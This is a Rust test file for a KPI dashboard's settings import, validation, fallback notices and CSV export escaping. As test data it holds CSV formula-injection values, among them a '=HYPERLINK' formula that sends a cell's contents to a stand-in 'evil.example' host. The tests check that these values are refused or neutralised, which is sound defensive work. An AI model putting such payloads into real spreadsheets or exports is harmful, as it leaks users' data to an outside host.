//! The Settings page's upload choices reach the loader: number locale, ambiguous date
//! order and the duplicate-`post_id` policy.

use kpi_dash::data::calendar::parse_iso_day;
use kpi_dash::data::ingest::{load, DateOrder, DuplicatePolicy, NumberLocale};
use kpi_dash::data::schema::Measure;
use kpi_dash::data::store::Workspace;
use kpi_dash::metrics::settings::Settings;

/// Two rows of the same post: 03/04/2025, impressions "1.000,5" and "2.000".
const CSV: &[u8] = b"post_id;platform;date;impressions\nP1;tiktok;03/04/2025;1.000,5\nP1;tiktok;03/04/2025;2.000\n";

#[test]
fn defaults_read_month_first_dot_decimals_and_keep_the_last_row() {
    let options = Settings::default().import_options();
    assert_eq!(options.date_order, DateOrder::MonthFirst);
    assert_eq!(options.number_locale, NumberLocale::DotDecimal);
    assert_eq!(options.duplicates, DuplicatePolicy::KeepLast);
}

#[test]
fn day_first_comma_decimal_and_sum_are_applied() {
    let settings = Settings {
        date_order: DateOrder::DayFirst,
        number_locale: NumberLocale::CommaDecimal,
        duplicates: DuplicatePolicy::Sum,
        ..Settings::default()
    };
    let mut ws = Workspace::default();
    let report = load(&mut ws, "dupes.csv", CSV, &settings.import_options()).unwrap();
    assert_eq!(report.rows_read, 2);
    assert_eq!(report.rows_read, report.rows_used + report.rows_rejected);
    // Summed into one row: 1,000.5 + 2,000 = 3,000.5 impressions, dated 3 April 2025.
    assert_eq!(ws.posts.measure(Measure::Impressions), &[3000.5]);
    assert_eq!(ws.posts.day, vec![parse_iso_day("2025-04-03").unwrap()]);
}

// ---- Imported and stored settings are validated field by field (issue 14, items 5, 6).

use kpi_dash::data::calendar::Day;
use kpi_dash::display::export::{table_csv, ExportCell, ExportContext};
use kpi_dash::display::query::ViewQuery;
use kpi_dash::metrics::settings::{SettingIssue, CURRENCY_SYMBOL_MAX};

/// Imports `json`, returning the settings and the fields that had an issue.
fn import(json: &str) -> (Settings, Vec<SettingIssue>) {
    Settings::from_json(json).expect("a JSON object")
}

fn fields(issues: &[SettingIssue]) -> Vec<&str> {
    issues.iter().map(|i| i.field.as_str()).collect()
}

#[test]
fn exported_defaults_import_with_no_issue() {
    let json = serde_json::to_string(&Settings::default()).unwrap();
    let (settings, issues) = import(&json);
    assert_eq!(settings, Settings::default());
    assert!(issues.is_empty(), "{issues:?}");
    // A valid as_of, as a day number or an ISO date, is kept.
    let (s, issues) = import(r#"{"as_of": 20089}"#);
    assert_eq!((s.as_of, issues.len()), (Some(20089), 0));
    let (s, issues) = import(r#"{"as_of": "2025-01-01"}"#);
    assert_eq!((s.as_of, issues.len()), (Some(20089), 0));
}

#[test]
fn an_as_of_at_plus_or_minus_2_pow_31_falls_back_to_the_data() {
    for raw in [
        "2147483648",
        "-2147483648",
        "2147483647",
        "-2147483649",
        "4e9",
    ] {
        let (settings, issues) = import(&format!(r#"{{"as_of": {raw}, "currency_symbol": "€"}}"#));
        assert_eq!(settings.as_of, None, "{raw}");
        assert_eq!(fields(&issues), ["as_of"], "{raw}");
        assert!(
            issues[0]
                .reason
                .contains("outside 1900-01-01 to 2200-12-31"),
            "{}",
            issues[0].message()
        );
        // The other fields still apply.
        assert_eq!(settings.currency_symbol, "€");
    }
    for raw in [r#""9999999-01-01""#, r#""2025-01-12l""#, "true"] {
        let (settings, issues) = import(&format!(r#"{{"as_of": {raw}}}"#));
        assert_eq!(
            (settings.as_of, fields(&issues)),
            (None, vec!["as_of"]),
            "{raw}"
        );
    }
    // An as_of set past the import (e.g. by code) is caught by validate as well.
    let mut s = Settings {
        as_of: Some(Day::MIN),
        ..Settings::default()
    };
    assert_eq!(fields(&s.validate()), ["as_of"]);
    assert_eq!(s.as_of, None);
}

#[test]
fn negative_thresholds_and_out_of_range_rates_fall_back_one_by_one() {
    let (s, issues) = import(
        r#"{
            "alerts": {"roas_min": -1, "conversion_min": 1.5, "engagement_drop": -0.1,
                       "score_min": 250, "pacing_max": 1.3},
            "emv_rates": {"like": -0.5, "view": 0.05},
            "emv_cpm": {"tiktok": -8, "youtube": 15},
            "score_weights": {"engagement": -40}
        }"#,
    );
    let d = Settings::default();
    assert_eq!(
        fields(&issues),
        [
            "score_weights.engagement",
            "emv_cpm.tiktok",
            "emv_rates.like",
            "alerts.engagement_drop",
            "alerts.conversion_min",
            "alerts.roas_min",
            "alerts.score_min",
        ]
    );
    // Each refused field is back at its default ...
    assert_eq!(s.alerts.roas_min, d.alerts.roas_min);
    assert_eq!(s.alerts.conversion_min, d.alerts.conversion_min);
    assert_eq!(s.alerts.engagement_drop, d.alerts.engagement_drop);
    assert_eq!(s.alerts.score_min, d.alerts.score_min);
    assert_eq!(s.emv_rates.like, d.emv_rates.like);
    assert_eq!(s.score_weights, d.score_weights);
    // ... and the valid ones beside them are kept.
    assert_eq!(s.alerts.pacing_max, 1.3);
    assert_eq!(s.emv_rates.view, 0.05);
    assert_eq!(s.emv_cpm.get("youtube"), Some(&15.0));
    assert_eq!(s.emv_cpm.get("tiktok"), None);
    let roas = &issues[5];
    assert_eq!(
        roas.message(),
        "alerts.roas_min: -1 is out of range (allowed: 0 or more); the default 3 is used"
    );
    assert_eq!(
        issues[4].message(),
        "alerts.conversion_min: 1.5 is out of range (allowed: from 0 to 1); the default 0.02 is used"
    );
}

#[test]
fn unreadable_fields_fall_back_and_the_rest_applies() {
    let (s, issues) = import(
        r#"{
            "er_denominator": "likes",
            "alerts": {"roas_min": "three", "score_min": 60},
            "tiers": {"nano": 5000, "micro": 1000},
            "target_overrides": {"roas": {"AtLeast": 4}, "no_such_kpi": {"AtLeast": 1},
                                 "cpa": {"Range": [50, 10]}, "ctr": "high"},
            "number_locale": 7,
            "duplicates": "sum"
        }"#,
    );
    let d = Settings::default();
    assert_eq!(
        fields(&issues),
        [
            "er_denominator",
            "target_overrides.ctr",
            "alerts.roas_min",
            "number_locale",
            "target_overrides.cpa",
            "target_overrides.no_such_kpi",
            "tiers",
        ]
    );
    assert_eq!(s.er_denominator, d.er_denominator);
    assert_eq!(s.alerts.roas_min, d.alerts.roas_min);
    assert_eq!(s.alerts.score_min, 60.0);
    assert_eq!(s.tiers, d.tiers, "bounds that do not rise");
    assert_eq!(s.target_overrides.len(), 1);
    assert!(s.target_overrides.contains_key("roas"));
    assert_eq!(s.number_locale, d.number_locale);
    assert_eq!(s.duplicates, DuplicatePolicy::Sum);
    // No JSON object at all is refused whole.
    assert!(Settings::from_json("[1, 2]").is_err());
    assert!(Settings::from_json("not json").is_err());
}

#[test]
fn a_currency_symbol_is_a_few_characters_and_no_formula() {
    assert_eq!(CURRENCY_SYMBOL_MAX, 8);
    let long = "€".repeat(850_000);
    for bad in [
        "=HYPERLINK(\"http://evil.example/?leak=\"&B5)",
        "=1",
        "+1",
        "-1",
        "@SUM",
        "EURO EUR", // 8 characters: allowed (checked below)
        "123456789",
        long.as_str(),
        "x,=1",
        "a;b",
        "\t$",
    ] {
        let json = serde_json::json!({ "currency_symbol": bad }).to_string();
        let (s, issues) = import(&json);
        if bad == "EURO EUR" {
            assert_eq!((s.currency_symbol.as_str(), issues.len()), (bad, 0));
            continue;
        }
        assert_eq!(s.currency_symbol, "$", "{bad:.20}");
        assert_eq!(fields(&issues), ["currency_symbol"], "{bad:.20}");
        // The message quotes at most 40 characters of the value.
        assert!(issues[0].message().chars().count() < 200);
    }
    for good in ["$", "€", "R$", "CHF", "kr.", ""] {
        let json = serde_json::json!({ "currency_symbol": good }).to_string();
        let (s, issues) = import(&json);
        assert_eq!((s.currency_symbol.as_str(), issues.len()), (good, 0));
    }
}

#[test]
fn a_bad_stored_setting_deserializes_to_the_default_never_an_error() {
    // Local storage and the worker read settings through serde: the same field-by-field
    // reading, so one bad field no longer throws the whole object away (or breaks a page).
    let stored = r#"{"as_of": 2147483647, "currency_symbol": "=cmd", "alerts": {"roas_min": -5},
                     "er_denominator": "impressions"}"#;
    let s: Settings = serde_json::from_str(stored).unwrap();
    let d = Settings::default();
    assert_eq!(s.as_of, None);
    assert_eq!(s.currency_symbol, d.currency_symbol);
    assert_eq!(s.alerts, d.alerts);
    assert_eq!(s.er_denominator.measure().1, "impressions");
    // The notice the page shows for them.
    let (_, issues) = Settings::from_json(stored).unwrap();
    let notice =
        kpi_dash::metrics::settings::issues_notice("The stored settings", &issues).unwrap();
    assert!(notice.starts_with(
        "The stored settings: 3 settings could not be used and fell back to the default:"
    ));
    assert_eq!(notice.lines().count(), 4);
    assert!(serde_json::from_str::<Settings>("[]").is_err());
}

/// Splits CSV text into records of fields (RFC 4180 quoting).
fn csv_records(text: &str) -> Vec<Vec<String>> {
    let mut records = Vec::new();
    let (mut record, mut field) = (Vec::new(), String::new());
    let (mut quoted, mut chars) = (false, text.chars().peekable());
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                field.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => field.push(c),
            (false, '"') if field.is_empty() => quoted = true,
            (false, ',') => record.push(std::mem::take(&mut field)),
            (false, '\n') => {
                record.push(std::mem::take(&mut field));
                records.push(std::mem::take(&mut record));
            }
            (false, c) => field.push(c),
        }
    }
    records
}

#[test]
fn the_settings_preamble_of_every_csv_export_is_escaped() {
    // A currency symbol that bypassed validation (a snapshot link carries its own).
    for symbol in [
        "=HYPERLINK(\"http://evil.example/?leak=\"&B5)",
        "x,=HYPERLINK(\"http://evil.example/?leak=\"&B5)",
        "$\n=1+1,@SUM(A1)",
    ] {
        let settings = Settings {
            currency_symbol: symbol.into(),
            ..Settings::default()
        };
        let context = ExportContext::new(&settings, &ViewQuery::default(), None);
        let csv = table_csv(
            &context,
            &["Campaign", "ROAS"],
            &[vec![
                ExportCell::Text("C1".into()),
                ExportCell::Number(Some(3.0)),
            ]],
        );
        let csv = csv.trim_start_matches('\u{feff}');
        let records = csv_records(csv);
        // 5 preamble lines, the header and the row: each preamble line one field.
        assert_eq!(records.len(), 7, "{csv}");
        for preamble in &records[..5] {
            assert_eq!(preamble.len(), 1, "{preamble:?}");
            assert!(preamble[0].starts_with("# "), "{preamble:?}");
        }
        for field in records.iter().flatten() {
            assert!(
                !field.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "live formula {field:?} in {csv}"
            );
        }
        // The value is neutralized like a cell when it starts like a formula; a comma
        // inside it stays in the one quoted field.
        let currency = &records[2][0];
        let expected = if symbol.starts_with('=') {
            format!("# Currency: '{symbol}")
        } else {
            format!("# Currency: {}", symbol.replace('\n', " "))
        };
        assert_eq!(currency, &expected);
    }
    // Ordinary lines stay as they were: `# label: value`, unquoted.
    let context = ExportContext::new(&Settings::default(), &ViewQuery::default(), None);
    let preamble = context.csv_preamble();
    assert!(preamble.contains("\n# Currency: $\n"), "{preamble}");
    // An imported file cannot set such a symbol in the first place.
    let json =
        serde_json::json!({ "currency_symbol": "=HYPERLINK(\"http://evil.example/?leak=\"&B5)" });
    assert_eq!(import(&json.to_string()).0.currency_symbol, "$");
}

#[test]
fn the_stored_settings_notice_names_what_fell_back() {
    use kpi_dash::metrics::settings::stored_settings_notice;
    // Nothing stored, or clean settings: no notice.
    assert_eq!(stored_settings_notice(None), None);
    let clean = serde_json::to_string(&Settings::default()).unwrap();
    assert_eq!(stored_settings_notice(Some(&clean)), None);
    // Text that is no settings object: the defaults, said so.
    let notice = stored_settings_notice(Some("{broken")).unwrap();
    assert!(notice.starts_with("The settings stored in this browser could not be read"));
    assert!(notice.ends_with("the defaults are used."));
    // One refused field: one line under the heading.
    let notice = stored_settings_notice(Some(r#"{"as_of": -2147483648}"#)).unwrap();
    assert_eq!(
        notice,
        "The settings stored in this browser: 1 setting could not be used and fell back to \
         the default:\nas_of: day number -2147483648 is a date outside 1900-01-01 to \
         2200-12-31; the default (the last date in the data) is used"
    );
}

#[test]
fn a_flood_of_bad_entries_gives_a_bounded_notice() {
    use kpi_dash::metrics::settings::{issues_notice, CPM_PLATFORMS_MAX, NOTICE_LINES_MAX};
    // 1,000 platforms with a CPM: the first 32 (in key order) are kept, one issue for
    // the other 968.
    let cpm: serde_json::Map<String, serde_json::Value> = (0..1000)
        .map(|n| (format!("p{n:04}"), serde_json::json!(1.0)))
        .collect();
    let (s, issues) = import(&serde_json::json!({ "emv_cpm": cpm }).to_string());
    assert_eq!(s.emv_cpm.len(), CPM_PLATFORMS_MAX);
    assert_eq!(issues.len(), 1);
    assert_eq!(
        issues[0].message(),
        "emv_cpm: 968 platforms past the first 32 are left out"
    );
    // 500 unreadable entries: 500 issues, a notice of 20 lines and a count.
    let cpm: serde_json::Map<String, serde_json::Value> = (0..500)
        .map(|n| (format!("p{n:04}"), serde_json::json!("x")))
        .collect();
    let (_, issues) = import(&serde_json::json!({ "emv_cpm": cpm }).to_string());
    assert_eq!(issues.len(), 500);
    let notice = issues_notice("Settings imported", &issues).unwrap();
    assert_eq!(notice.lines().count(), 1 + NOTICE_LINES_MAX + 1);
    assert!(notice.ends_with("… and 480 more"));
}
